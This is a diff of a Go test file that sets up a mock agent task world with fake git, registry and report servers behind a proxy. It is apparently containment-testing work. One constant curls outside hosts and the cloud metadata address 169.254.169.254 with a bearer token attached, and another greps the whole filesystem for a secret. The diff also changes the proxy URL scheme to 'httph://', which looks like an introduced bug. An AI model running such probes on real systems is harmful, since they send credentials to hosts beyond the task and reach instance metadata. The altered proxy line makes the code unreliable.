@@ -62,10 +62,10 @@ const (
 	taskToken = "the-value-of-the-credential-8f3a1c"
 
 	cloneRepository = "git clone -q http://git.test/repo.git && cd repo && git log --oneline"
-	installPackages = "cd repo && npm install --no-audit --no-fund --registry http://registry.test 2>&1 && ls node_modules"
-	buildAndTest    = "cd repo && npm run build 2>&1 && npm test 2>&1"
-	writeReport     = `cd repo && printf '{"commit":"%s","tests":"passed"}' "$(git rev-parse HEAD)" > ../report.json && cat ../report.json`
-	handIn          = `curl -sS --max-time 30 -H "Authorization: Bearer $REPORT_TOKEN" --data-binary @report.json https://reports.test/in`
+	installPackages = "cd ~/repo && npm install --no-audit --no-fund --registry http://registry.test 2>&1 && ls node_modules"
+	buildAndTest    = "cd ~/repo && npm run build 2>&1 && npm test 2>&1"
+	writeReport     = `cd ~/repo && printf '{"commit":"%s","tests":"passed"}' "$(git rev-parse HEAD)" > ../report.json && cat ../report.json`
+	handIn          = `cd && curl -sS --max-time 30 -H "Authorization: Bearer $REPORT_TOKEN" --data-binary @report.json https://reports.test/in`
 	goElsewhere     = `for url in https://elsewhere.test/ http://git.test:8080/ http://169.254.169.254/latest/meta-data; do curl -sS --max-time 10 "$url" -H "Authorization: $REPORT_TOKEN"; echo "status $?"; done`
 	lookForToken    = `env | grep -c ` + "8f3a1c" + `; grep -rls 8f3a1c / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null | grep -v node_modules; echo looked`
 )
@@ -202,7 +202,7 @@ func newTaskWorld(t *testing.T) *taskWorld {
 	reports.StartTLS()
 	t.Cleanup(reports.Close)
 
-	w.proxy = "http://" + connectProxy(t, map[string]string{
+	w.proxy = "httph://" + connectProxy(t, map[string]string{
 		"git.test:80": git.Listener.Addr().String(), "registry.test:80": registry.Listener.Addr().String(), "reports.test:443": reports.Listener.Addr().String(),
 	})
 	return w
